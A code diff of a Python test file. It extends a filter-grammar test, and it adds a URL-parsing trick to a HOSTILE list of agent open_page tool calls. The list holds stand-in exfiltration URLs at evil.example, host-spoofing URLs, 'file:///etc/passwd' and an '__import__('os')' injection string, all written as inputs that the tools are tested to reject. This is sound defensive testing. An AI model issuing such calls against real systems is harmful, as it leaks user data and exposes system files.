@@ -153,8 +153,9 @@ def test_the_parser_reads_everything_that_the_grammar_allows() -> None:
     assert len(texts) > 20
     assert any(" and " in text for text in texts)
     assert not [text for text in texts if "error" in grammar.find_orders(text)]
-    for text in ("", "total", "total > much", "total > 100 or status = open", "__import__('os')"):
-        assert grammar.find_orders(text) == "error: this is not a filter"
+    wrong = ("", "total", "total > much", "total > 100 or status = open", "__import__('os')")
+    for text in (*wrong, "price > 100", "total ? 100", "status < open"):
+        assert grammar.find_orders(text) == grammar_chat.find_orders(text) == "error: this is not a filter"
 
 
 def impatient(source: str) -> str:
@@ -227,6 +228,7 @@ HOSTILE = [
     ("open_page", {"url": "https://evil.example/?all=Ada"}),
     ("open_page", {"url": "https://help.example.com@evil.example/"}),
     ("open_page", {"url": "https://help.example.com.evil.example/"}),
+    ("open_page", {"url": "https://evil.example\\@help.example.com/"}),
     ("open_page", {"url": "https://evil.example/help.example.com"}),
     ("open_page", {"url": "http://help.example.com/"}),
     ("open_page", {"url": "file:///etc/passwd"}),
